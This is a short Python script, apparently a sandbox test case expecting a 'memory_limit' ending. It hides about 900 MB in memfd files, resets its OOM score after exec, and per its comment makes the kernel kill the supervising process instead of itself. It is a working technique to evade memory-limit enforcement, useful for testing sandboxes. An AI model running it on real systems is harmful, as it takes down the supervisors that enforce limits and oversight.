# ending: memory_limit
import os
# After an exec its files in /proc are its own, and it is no longer the first to be killed. The memory is in files that
# no process maps, so the kernel kills whatever is larger: the supervisor.
files = [os.memfd_create(str(number), 0) for number in range(60)]
for file in files:
    os.set_inheritable(file, True)
fill = "; ".join(f"head -c 15000000 /dev/zero > /proc/self/fd/{file}" for file in files)
os.execv("/bin/sh", ["sh", "-c", f"echo 0 > /proc/self/oom_score_adj; {fill}; sleep 100"])
